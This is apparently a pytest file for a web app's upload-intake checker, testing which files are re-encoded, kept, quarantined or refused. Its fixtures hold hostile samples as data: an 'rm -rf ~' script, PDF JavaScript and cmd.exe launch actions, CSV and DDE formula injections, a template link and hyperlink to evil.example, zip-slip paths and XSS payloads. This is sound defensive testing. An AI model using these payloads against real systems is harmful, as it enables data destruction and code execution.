"""What becomes of uploads: re-encoded, kept, quarantined with a reason, or refused."""

from __future__ import annotations

import hashlib
import io

import pytest
from PIL import Image

from stackmark_web.assessing import intake
from stackmark_web.assessing.refusing import Problem
from web.assessing.learner import pieces


def test_a_photo_is_made_anew_without_place_and_name():
    data = pieces.jpeg_with_place()
    taken = intake.examine("holiday.JPG", data)
    assert (taken.state, taken.media_type, taken.name) == ("re-encoded", "image/png", "holiday.png")
    assert taken.uploaded_sha256 == hashlib.sha256(data).hexdigest()
    assert b"Lena" not in taken.data
    assert not Image.open(io.BytesIO(taken.data)).getexif()


def test_what_hangs_on_to_a_picture_is_gone():
    data = pieces.png() + pieces.archive({"run.exe": b"MZ"})
    taken = intake.examine("two.png", data)
    assert taken.state == "re-encoded"
    assert b"PK\x03\x04" not in taken.data


GOOD = {
    "report.pdf": (pieces.pdf(), "application/pdf"),
    "links.pdf": (pieces.pdf(b"/OpenAction [2 0 R /Fit]"), "application/pdf"),
    "essay.docx": (pieces.docx(), intake.OFFICE["docx"]),
    "notes.txt": ("Grüße, 3 < 4".encode(), "text/plain"),
    "old.txt": ("Grüße".encode("latin-1"), "text/plain"),
    "wide.txt": ("Grüße".encode("utf-16"), "text/plain"),
    "table.csv": (b"name,value\nx,-3\ny,+4\n", "text/csv"),
    "program.py": (b"print('hello')\n", "text/plain"),
    "work.zip": (pieces.archive({"a/b.txt": b"x" * 900, "c.py": b"1"}), "application/zip"),
    "talk.mp3": (b"ID3\x04" + bytes(200), "audio/mpeg"),
    "film.mp4": (b"\0\0\0\x18ftypmp42" + bytes(100), "video/mp4"),
    "page.html": (b"<!doctype html><p>My page</p>", "text/plain"),
}


@pytest.mark.parametrize("name", GOOD)
def test_harmless_files_are_kept_as_they_are(name):
    data, media_type = GOOD[name]
    taken = intake.examine(name, data)
    assert (taken.state, taken.why, taken.media_type) == ("kept", "", media_type)
    assert taken.data == data


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">%s</svg>'
BAD = {
    "tool.exe": (b"MZ\x90\x00" + bytes(90), "program"),
    "harmless.txt": (b"#!/bin/sh\nrm -rf ~\n", "program"),
    "linux": (b"\x7fELF\x02" + bytes(90), "program"),
    "start.bat": (b"echo hello", "ending may run"),
    "virus.txt": (
        rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "program",
    ),
    "script.pdf": (pieces.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "script"),
    "escaped.pdf": (pieces.pdf(b"/OpenAction << /S /J#61vaScript >>"), "script"),
    "packed.pdf": (pieces.pdf_with_packed(b"5 0 << /S /JavaScript >>"), "script"),
    "packed-escaped.pdf": (
        pieces.pdf_with_packed(b"5 0 << /S /JavaScript >>", b"/Obj#53tm"),
        "script",
    ),
    "launch.pdf": (pieces.pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "another program"),
    "files.pdf": (pieces.pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), "other files"),
    "locked.pdf": (pieces.pdf(b"/Encrypt 9 0 R"), "locked"),
    "second.pdf": (b"\n" * 30 + pieces.pdf(), "begins with something else"),
    "double.pdf": (pieces.pdf(tail=pieces.archive({"x.txt": b"x"})), "two files in one"),
    "macros.docx": (pieces.docx(**{"word__vbaProject.bin": b"x"}), "macros"),
    "basic.odt": (
        pieces.archive(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/m.xml": b"x"}
        ),
        "macros",
    ),
    "template.docx": (
        pieces.docx(
            **{
                "word___rels__settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
            }
        ),
        "from outside",
    ),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "Old Office"),
    "locked.zip": (pieces.locked_archive(), "password"),
    "inside.zip": (pieces.archive({"setup.exe": b"MZ"}), "may run"),
    "disguised.zip": (pieces.archive({"picture.png": b"MZ\x90" + bytes(99)}), "unusual"),
    "nested.zip": (pieces.archive({"more.zip": pieces.archive({"a": b"b"})}), "another archive"),
    "slip.zip": (pieces.archive({"../../etc/passwd": b"x"}), "outside of its folder"),
    "broken.zip": (pieces.archive({"a.txt": b"abc" * 500})[:-30], "damaged"),
    "a.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(60), "cannot be looked into"),
    "page.html": (b"<!doctype html><script>alert(1)</script>", "script"),
    "click.html": (b'<html><a href="javascript:x()">x</a>', "script"),
    "page.txt": (b"<html><body onload=alert(1)>", "script"),
    "draw.svg": (SVG % b"<script>alert(1)</script>", "more than draw"),
    "photo.png": (pieces.pdf(), "other than its ending"),
    "essay.pdf": (pieces.png(), "other than its ending"),
    "essay.txt": (pieces.docx(), "other than its ending"),
    "data.csv": (bytes(range(256)), "other than its ending"),
    "essay.docx": (pieces.archive({"a.txt": b"x"}), "other than its ending"),
    "sum.csv": (b'name,value\nx,"=HYPERLINK(""http://evil.example"")"\n', "formulas"),
    "dde.csv": (b"=cmd|' /C calc'!A0,2\n", "formulas"),
    "object.rtf": (rb"{\rtf1 {\object\objdata 01}}", "other files"),
}


@pytest.mark.parametrize("name", BAD)
def test_what_may_hurt_goes_into_quarantine_with_its_reason(name):
    data, why = BAD[name]
    taken = intake.examine(name, data)
    assert taken.state == "quarantined", taken
    assert why in taken.why
    assert taken.data == data


def test_a_drawing_without_a_script_is_cleaned():
    taken = intake.examine("draw.svg", SVG % b"<rect width='4' height='4'/>")
    assert (taken.state, taken.media_type) == ("re-encoded", "image/svg+xml")
    assert b"<rect" in taken.data


REFUSED = {
    "empty.pdf": (b"", "is empty"),
    "bomb.zip": (pieces.bomb(), "far more than can be looked at"),
    "what.xyz": (bytes(range(256)), "not taken here"),
    "words.xyz": (b"just words", "not taken here"),
    "broken.png": (b"\x89PNG\r\n\x1a\nnothing", "no picture"),
    "huge.txt": (b"x" * (intake.MAX_FILE_BYTES + 1), "too large"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_used_is_refused_in_words(name):
    data, why = REFUSED[name]
    with pytest.raises(Problem, match=why) as refusal:
        intake.examine(name, data)
    assert refusal.value.field == "file"


NAMES = {
    "../../etc/passwd.txt": "passwd.txt",
    "C:\\Users\\lena\\essay.pdf": "essay.pdf",
    "a\u202etxt.exe": "a txt.exe",
    "x" * 400 + ".pdf": "x" * 138 + ".pdf",
    "\x00": "file",
    "..": "file",
    "<script>.txt": "script.txt",
    'a"b\r\nX: y.txt': "a b X y.txt",
    "résumé.pdf": "résumé.pdf",
}


@pytest.mark.parametrize("name", NAMES)
def test_names_of_files_are_names_of_files(name):
    assert intake.clean_name(name) == NAMES[name]


def test_a_million_pixel_bomb_is_refused_before_it_is_drawn():
    data = pieces.png(size=(9_000, 9_000))
    with pytest.raises(Problem, match="pixels"):
        intake.examine("bomb.png", data)
